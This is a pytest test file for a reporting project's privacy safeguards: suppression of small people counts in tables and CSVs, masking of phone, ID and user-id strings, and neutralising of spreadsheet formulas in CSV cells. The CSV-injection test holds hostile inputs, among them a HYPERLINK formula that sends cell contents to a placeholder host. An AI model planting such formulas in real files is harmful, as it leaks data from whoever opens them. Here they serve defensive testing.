"""Small-cell suppression: no published count of people between 1 and min_cell_size - 1, in the
shown table or the downloadable CSV, and no rate or sum that gives such a count back."""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd
import pytest
from conftest import event, txn, user, write_dataset, write_tiny

from growthloop import PROJECT_ROOT
from growthloop import book as gb
from growthloop.run.runner import chapter_paths, split_parameters
from growthloop.staging.loader import open_dataset


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "step": ["a", "a", "a", "b", "b", "b"],
        "channel": ["x", "y", "z", "x", "y", "z"],
        "period": [1, 1, 1, 2, 2, 2],
        "users": [120, 9, 40, 0, 10, 35],
        "amount": [5000, 700, 900, 0, 100, 300],          # whole-number money
        "rate": [0.5, 0.25, 0.1, 0.0, 0.2, 0.3],
        "label": ["A", "B", "C", "D", "E", "F"],
    })


def test_is_small_and_cell_label() -> None:
    # 0 is shown ("nobody"), 1..9 are small, 10 is not; text and NaN are not counts
    assert [gb.is_small(v) for v in (0, 1, 9, 9.5, 10, 250)] == [False, True, True, True, False, False]
    assert not gb.is_small("x") and not gb.is_small(float("nan")) and not gb.is_small(True)
    assert gb.cell_label(3) == "<10" and gb.cell_label(1234) == "1,234" and gb.cell_label(0) == "0"
    assert gb.cell_label(3, min_cell=3, fmt="{:,}") == "3" and gb.cell_label(2, min_cell=3) == "<3"
    assert gb.cell_label(None) == "" and gb.cell_label(float("nan")) == ""


def test_suppress_blanks_small_counts_and_what_is_derived_from_them() -> None:
    out = gb.suppress(_frame())
    # row 1 (users 9): the count shows "<10", its rate and money are blank, keys and text stay
    assert out.loc[1, "users"] == "<10"
    assert pd.isna(out.loc[1, "rate"]) and pd.isna(out.loc[1, "amount"])
    assert out.loc[1, "period"] == 1 and out.loc[1, "label"] == "B" and out.loc[1, "channel"] == "y"
    # the other rows are untouched; 0 and 10 are not small; whole numbers stay whole
    assert out.drop(index=1).astype(str).equals(_frame().drop(index=1).astype(str))
    assert out.loc[0, "users"] == 120 and out.loc[3, "users"] == 0 and out.loc[4, "users"] == 10
    assert out.loc[0, "amount"] == 5000 and isinstance(out.loc[0, "amount"], int)
    # the input is not changed
    frame = _frame()
    gb.suppress(frame, complement="step")
    assert frame.equals(_frame())


def test_suppress_parameters() -> None:
    frame = _frame()
    assert gb.suppress(frame, counts=()).equals(frame), "counts=() : a table that counts no people"
    assert gb.suppress(frame, min_cell=1).equals(frame), "1 turns suppression off"
    # a larger minimum hides more: 10 and 35 are now small, 40 is not
    out = gb.suppress(frame, min_cell=36)
    assert out.users.tolist() == [120, "<36", 40, 0, "<36", "<36"]
    with pytest.raises(ValueError, match=r"counts: no column\(s\) \['members'\]"):
        gb.suppress(frame, counts=["members"])
    for bad in (0, -5, 2.5, "10", True):
        with pytest.raises(ValueError, match="min_cell_size must be a whole number >= 1"):
            gb.suppress(frame, min_cell=bad)
    with pytest.raises(ValueError, match="min_cell_size"):
        gb.chapter("x", min_cell_size=0)  # refused before any data is opened


def test_complement_stops_total_minus_parts() -> None:
    """Step a's channels add up to a total shown elsewhere (169): with only 9 hidden it would be
    169 - 120 - 40 = 9. The next smallest cell of the group (40) is hidden with it."""
    out = gb.suppress(_frame(), complement="step")
    assert out.users.tolist()[:3] == [120, "<10", gb.HIDDEN]
    assert pd.isna(out.loc[2, "rate"]) and pd.isna(out.loc[2, "amount"])
    assert out.loc[4, "users"] == 10, "step b hides nothing, so nothing more is hidden"
    # brute force on random tables: no group with a positive shown remainder has exactly one
    # hidden cell, and every hidden cell is small or a complement
    import numpy as np

    rng = np.random.default_rng(9)
    for _ in range(50):
        f = pd.DataFrame({"g": rng.integers(0, 4, 30), "users": rng.integers(0, 30, 30)})
        o = gb.suppress(f, complement="g")
        hidden = o.users.map(lambda v: v in ("<10", gb.HIDDEN))
        assert (hidden >= f.users.between(1, 9)).all()
        for _, idx in f.groupby("g").groups.items():
            shown_positive = (~hidden[idx] & (f.users[idx] > 0)).sum()
            assert hidden[idx].sum() != 1 or shown_positive == 0
    # a repeated index (a frame built by concat) works; step a now hides two 9s: no complement
    doubled = pd.concat([_frame(), _frame()])
    assert gb.suppress(doubled, complement="step").users.tolist() == [120, "<10", 40, 0, 10, 35] * 2
    # complement=[]: the whole table is one group (its rows add up to the total)
    whole = gb.suppress(pd.DataFrame({"tier": ["a", "b", "c"], "users": [5, 30, 60]}), complement=[])
    assert whole.users.tolist() == ["<10", gb.HIDDEN, 60]


def test_table_suppresses_the_page_and_the_csv(tmp_path: Path) -> None:
    ch = gb.Chapter(slug="t", ds=None, out_dir=tmp_path, min_cell=10)
    view = ch.table(_frame(), "cells", "caption", formats={"rate": "{:.1%}", "users": "{:,}"})
    csv = (tmp_path / "tables" / "t" / "cells.csv").read_text(encoding="utf-8-sig").splitlines()
    assert csv[2] == "a,y,1,<10,,,B", csv[2]
    assert csv[1] == "a,x,1,120,5000,0.5,A"
    page = view.data
    assert "&lt;10" in page and "<td>9</td>" not in page and "25.0%" not in page
    assert "50.0%" in page and "<td>120</td>" in page
    # a chapter's own minimum
    ch20 = gb.Chapter(slug="t", ds=None, out_dir=tmp_path, min_cell=20)
    ch20.table(_frame(), "cells20")
    assert "<20" in (tmp_path / "tables" / "t" / "cells20.csv").read_text(encoding="utf-8-sig")
    assert ch20.cell_label(15) == "<20" and ch20.cell_label(25) == "25"


def test_every_chapter_takes_min_cell_size_from_its_parameters() -> None:
    """A campaign sets `min_cell_size:` once; the runner hands it to every chapter declaring it."""
    chapters = [p for p in chapter_paths() if not p.stem.startswith("99")]
    per = split_parameters(chapters, {"min_cell_size": 20})
    assert all(per[p] == {"min_cell_size": 20} for p in chapters)
    for src in sorted((PROJECT_ROOT / "chapters" / "src").glob("0*.py")):
        text = src.read_text(encoding="utf-8")
        assert re.search(r"^min_cell_size = 10  # ", text, re.M), src.name
        assert re.search(r"gb\.chapter\([^)]*min_cell_size[,)]", text), f"{src.name} must pass min_cell_size on"


def _number(value: object) -> float:
    try:
        return float(str(value).replace(",", ""))
    except ValueError:
        return float("nan")


def small_in_table(frame: pd.DataFrame, name: str, min_cell: int = gb.MIN_CELL_SIZE) -> list[str]:
    """The cells of the published table `name` (its CSV, or its page view with column names for
    headers) that show a group of 1 to min_cell - 1 people.

    A table of GROUP_SIZES is checked on its size columns (converters inside a large group may be
    fewer) and, with a block, on each block's largest count (a funnel segment's entrants); any
    other table on every column of COUNT_COLUMNS.
    """
    spec = gb.group_sizes(name)
    numbers = frame.apply(lambda col: col.map(_number))
    sizes = spec.get("sizes", gb.COUNT_COLUMNS)
    bad = []
    for col in (c for c in sizes if c in frame.columns):
        hits = frame[col][(numbers[col] > 0) & (numbers[col] < min_cell)]
        bad += [f"{name}:{col}={v}" for v in hits.tolist()[:1]]
    block = spec.get("block")
    if block in frame.columns:
        counts = [c for c in gb.COUNT_COLUMNS if c in frame.columns]
        largest = numbers[counts].max(axis=1).groupby(frame[block]).max()
        bad += [f"{name}:{block}={k} ({v:g} people)" for k, v in largest.items() if 0 < v < min_cell][:1]
    return bad


def small_cells(tables: Path, min_cell: int = gb.MIN_CELL_SIZE) -> list[str]:
    """Published CSVs that show a group of 1 to min_cell - 1 people (`small_in_table`)."""
    bad = []
    for path in sorted(tables.rglob("*.csv")):
        frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        bad += [f"{path.parent.name}/{hit}" for hit in small_in_table(frame, path.stem, min_cell)]
    return bad


def test_committed_demo_tables_have_no_small_cells() -> None:
    assert small_cells(PROJECT_ROOT / "tables") == []


def test_export_streams_an_engine_table_to_the_same_file_as_its_frame(tmp_path: Path) -> None:
    import ibis

    frame = pd.DataFrame({"user_id": [f"U{i:03d}" for i in range(7)],
                          "amount": [1.5, 2.0, None, 4.25, 5.0, 6.0, 7.0],
                          "segment": ["重要价值"] * 3 + ["一般挽留"] * 4})
    ch = gb.Chapter(slug="t", ds=None, out_dir=tmp_path, min_cell=10)
    from_frame = ch.export(frame, "from_frame").read_bytes()
    # batches of 3 rows: the header is written once, the rows in the table's order
    con = ibis.duckdb.connect()
    table = con.create_table("members", ibis.memtable(frame)).order_by("user_id")
    from_table = ch.export(table, "from_table", batch_rows=3).read_bytes()
    assert from_table == from_frame
    assert from_frame.startswith("\ufeffuser_id,amount,segment\r\n".encode()) or \
        from_frame.startswith("\ufeffuser_id,amount,segment\n".encode())
    assert from_frame.decode("utf-8-sig").count("user_id") == 1
    empty = ch.export(table.filter(table.amount > 100), "empty").read_text(encoding="utf-8-sig")
    assert empty.strip() == "user_id,amount,segment"
    # exports are private: under exports/, never under the published tables/
    assert (tmp_path / gb.EXPORTS_DIR / "t" / "from_table.csv").exists()


def test_csv_cells_that_a_spreadsheet_would_run_are_defused(tmp_path) -> None:
    # OWASP's CSV injection rule: a text cell starting with = + - @ (or tab, CR) gets a leading
    # apostrophe in every CSV the project writes (published tables and private exports);
    # numbers written as text and the monitoring table's "-" stay as they are
    from growthloop.present.tables import csv_safe

    frame = pd.DataFrame({"device_os": ['=HYPERLINK("http://x/?"&A2,"点击")', "+86 138", "@SUM(A1)",
                                        "-cmd", "iOS", "-", "-5", "\tx"],
                          "users": [11, 12, 13, 14, 15, 16, 17, 18]})
    safe = csv_safe(frame)
    assert safe.device_os.tolist() == ['\'=HYPERLINK("http://x/?"&A2,"点击")', "'+86 138", "'@SUM(A1)",
                                       "'-cmd", "iOS", "-", "-5", "'\tx"]
    assert frame.device_os.iloc[0].startswith("=")  # the caller's frame is not changed
    ds = open_dataset(write_tiny(tmp_path / "tiny"))
    ch = gb.Chapter("t", ds, tmp_path / "out")
    ch.table(frame, "hostile", counts=("users",))
    ch.export(frame, "hostile")
    for path in (tmp_path / "out" / "tables" / "t" / "hostile.csv", tmp_path / "out" / "exports" / "t" / "hostile.csv"):
        text = path.read_text(encoding="utf-8-sig")
        assert "\n=HYPERLINK" not in text and "'=HYPERLINK" in text, path


def test_free_text_is_masked_in_tables_and_glue(tmp_path) -> None:
    # a phone number, an ID number, an e-mail and a user id typed into a campaign name or rule
    # are masked in the published table and in glued text; other text is untouched
    from growthloop.present.privacy import MASK, mask_text

    assert mask_text("复投提醒 13812345678 / +86 139-1234-5678") == f"复投提醒 {MASK} / {MASK}"
    assert mask_text("身份证 11010519491231002X 和 440301199001011234") == f"身份证 {MASK} 和 {MASK}"
    assert mask_text("联系 ops.team+crm@example.com.cn") == f"联系 {MASK}"
    assert mask_text("C2026_01 金额 100000 日期 2026-06-30") == "C2026_01 金额 100000 日期 2026-06-30"
    path = write_dataset(tmp_path / "d", users=[user("U12345678"), user("U87654321")],
                         events=[event("register", "2025-01-01 10:00:00", "U12345678", "A1")],
                         transactions=[txn("T1", "U12345678", "2025-01-02 09:00:00", 100.0)],
                         config={"name": "d", "analysis_date": "2025-03-31"})
    ch = gb.Chapter("t", open_dataset(path), tmp_path / "out")
    frame = pd.DataFrame({"rule": ["发给 U12345678 的邀请 invite_U87654321", "电话 13912345678"],
                          "users": [20, 30]})
    shown = ch.table(frame, "rules", counts=("users",)).data
    csv = (tmp_path / "out" / "tables" / "t" / "rules.csv").read_text(encoding="utf-8-sig")
    for text in (shown, csv):
        assert "13912345678" not in text and "U12345678" not in text and f"发给 {MASK}" in text
    # an id inside a longer token (an invite code in a UTM value) is masked too
    assert "U87654321" not in csv and f"invite_{MASK}" in csv
    assert ch.mask_text("名单 U87654321 与 U00000000") == f"名单 {MASK} 与 U00000000"


def test_a_small_min_cell_size_puts_a_banner_on_the_page() -> None:
    banner = gb.small_cell_banner(3)
    assert "min_cell_size" in banner and "低于默认的 10" in banner and "admonition warning" in banner


def test_the_page_shows_readers_headers_and_cells_the_csv_keeps_names(tmp_path: Path) -> None:
    ch = gb.Chapter(slug="t", ds=None, out_dir=tmp_path, min_cell=10)
    frame = pd.DataFrame({"channel": ["百度搜索", "合计"], "users": [1200, 1500],
                          "rate_from_previous": [0.25, 0.3], "p_value": [3.82e-85, 0.2],
                          "holdout": [True, False], "ratio": [float("inf"), 2.5]})
    page = ch.table(frame, "view", show=False).data
    # headers: the registry's labels (a name it does not know stays as it is)
    assert "<th>人数</th>" in page and "<th>上一步转化率</th>" in page and "<th>ratio</th>" in page
    # cells: separators, the registry's %, p-values without e-notation, flags, infinity
    for cell in ("1,200", "25.0%", "&lt;0.001", "0.200", "是", "否", "∞", "2.5"):
        assert f"<td>{cell}</td>" in page, cell
    assert "e-85" not in page and "True" not in page and "inf" not in page
    header = (tmp_path / "tables" / "t" / "view.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert header == "channel,users,rate_from_previous,p_value,holdout,ratio"


def _funnel_by_segment() -> pd.DataFrame:
    """Two steps of three segments, by hand: x has 483 settled entrants of whom 4 reached kyc;
    y has 7; z 600 (the segments of a step add up to the funnel's published step)."""
    return pd.DataFrame({
        "segment": ["x", "x", "y", "y", "z", "z"],
        "step": ["register", "kyc", "register", "kyc", "register", "kyc"],
        "users": [500, 4, 7, 3, 620, 50],
        "rate_from_start": [1.0, 4 / 483, 1.0, 3 / 7, 1.0, 48 / 600],
        "ci_low": [0.99, 0.003, 0.6, 0.1, 0.99, 0.06],
        "in_progress": [0, 0, 0, 0, 0, 2],
        "base_start": [483, 483, 7, 7, 600, 600],
        "converted_start": [483, 4, 7, 3, 600, 48],
    })


def test_sizes_show_converters_inside_a_large_group() -> None:
    out = gb.suppress(_funnel_by_segment(), sizes=["base_start"])
    # x: a group of 483 with 4 converters: 4 and its rate are shown
    assert out.loc[1, "users"] == 4 and out.loc[1, "converted_start"] == 4
    assert out.loc[1, "rate_from_start"] == pytest.approx(4 / 483) and out.loc[1, "base_start"] == 483
    # y: a group of 7: its size and every count show "<10" (0 is shown, as everywhere), rates
    # are blank
    for i in (2, 3):
        assert out.loc[i, "base_start"] == "<10" and out.loc[i, "users"] == "<10"
        assert out.loc[i, "in_progress"] == 0
        assert pd.isna(out.loc[i, "rate_from_start"]) and pd.isna(out.loc[i, "ci_low"])
        assert out.loc[i, "segment"] == "y" and out.loc[i, "step"] in ("register", "kyc")
    # z is untouched
    assert out.loc[5].tolist() == _funnel_by_segment().loc[5].tolist()
    # without sizes (every count a group size), x's kyc row is hidden as before
    old = gb.suppress(_funnel_by_segment())
    assert old.loc[1, "users"] == "<10" and pd.isna(old.loc[1, "rate_from_start"])
    assert gb.suppress(_funnel_by_segment(), min_cell=1, sizes=["base_start"]).equals(_funnel_by_segment())


def test_sizes_complement_hides_the_next_smallest_group() -> None:
    """In each step y (7) is hidden alone: total - x - z would give it back, so the next
    smallest group, x (483), goes too, with the rates of its rows."""
    out = gb.suppress(_funnel_by_segment(), sizes=["base_start"], complement="step")
    assert out.base_start.tolist() == [gb.HIDDEN, gb.HIDDEN, "<10", "<10", 600, 600]
    assert pd.isna(out.loc[0, "rate_from_start"]) and pd.isna(out.loc[1, "rate_from_start"])
    # the counts hidden with y are protected the same way (x's are the next smallest)
    assert out.users.tolist()[:4] == [gb.HIDDEN, gb.HIDDEN, "<10", "<10"]
    assert out.loc[5, "users"] == 50 and out.loc[5, "rate_from_start"] == pytest.approx(0.08)


def test_sizes_block_and_missing_sizes() -> None:
    # nobody of w has settled yet (base_start 0): its 8 entrants (the first step's users) are
    # the group, so every row of w is small
    frame = pd.DataFrame({"segment": ["w", "w", "v", "v"], "step": ["a", "b", "a", "b"],
                          "users": [8, 3, 40, 3], "base_start": [0, 0, 30, 30],
                          "rate_from_start": [float("nan"), float("nan"), 1.0, 0.1]})
    out = gb.suppress(frame, sizes=["base_start"], block="segment")
    assert out.users.tolist() == ["<10", "<10", 40, 3]
    without = gb.suppress(frame, sizes=["base_start"])
    assert without.users.tolist() == [8, 3, 40, 3], "without the block the entrants are not seen"
    # a row without a known size (NaN) falls back to the rule without sizes
    seg = pd.DataFrame({"segment": ["a", "b"], "users_t": [200, float("nan")],
                        "responders_t": [4, 4], "rate_t": [0.02, 0.5]})
    out = gb.suppress(seg, sizes=["users_t"])
    assert out.responders_t.tolist() == [4, "<10"] and pd.isna(out.loc[1, "rate_t"])
    assert out.loc[0, "rate_t"] == 0.02
    with pytest.raises(ValueError, match=r"sizes: no column\(s\) \['users_c'\]"):
        gb.suppress(seg, sizes=["users_c"])
    with pytest.raises(ValueError, match=r"block: no column\(s\)"):
        gb.suppress(seg, sizes=["users_t"], block="cohort")


def test_segment_uplift_shows_responders_of_large_groups(tmp_path: Path) -> None:
    frame = pd.DataFrame({"segment": ["18-24", "25-34", "35-44"], "users_t": [239, 96, 7],
                          "responders_t": [6, 3, 2], "users_c": [58, 32, 22],
                          "responders_c": [2, 0, 1], "rate_t": [6 / 239, 3 / 96, 2 / 7],
                          "uplift": [0.01, 0.03, 0.2], "breakdown": ["age_band"] * 3})
    assert gb.group_sizes("segment_uplift") == {"sizes": ("users_t", "users_c")}
    ch = gb.Chapter(slug="06_x", ds=None, out_dir=tmp_path)
    ch.table(frame, "segment_uplift", complement="breakdown", show=False)
    csv = pd.read_csv(tmp_path / "tables" / "06_x" / "segment_uplift.csv", dtype=str,
                      keep_default_na=False, encoding="utf-8-sig")
    # 35-44's treatment group of 7 is hidden; 25-34 (the next smallest) with it, and the
    # responders hidden with 35-44 take the next smallest of their column with them
    assert csv.users_t.tolist() == ["239", gb.HIDDEN, "<10"] and csv.uplift.tolist()[1:] == ["", ""]
    assert csv.responders_t.tolist() == ["6", gb.HIDDEN, "<10"]
    assert csv.responders_c.tolist() == [gb.HIDDEN, "0", "<10"]
    assert small_cells(tmp_path / "tables") == []
    # groups all large enough: every responder count is shown, below 10 too
    ch.table(frame.iloc[:2], "segment_uplift", complement="breakdown", show=False)
    csv = pd.read_csv(tmp_path / "tables" / "06_x" / "segment_uplift.csv", dtype=str,
                      keep_default_na=False, encoding="utf-8-sig")
    assert csv.responders_t.tolist() == ["6", "3"] and csv.responders_c.tolist() == ["2", "0"]
    assert csv.uplift.tolist() == ["0.01", "0.03"] and small_cells(tmp_path / "tables") == []
    # a name without an entry: every count is a group size, as before
    ch.table(frame, "other", show=False)
    other = pd.read_csv(tmp_path / "tables" / "06_x" / "other.csv", dtype=str, keep_default_na=False,
                        encoding="utf-8-sig")
    assert other.responders_t.tolist() == ["<10"] * 3
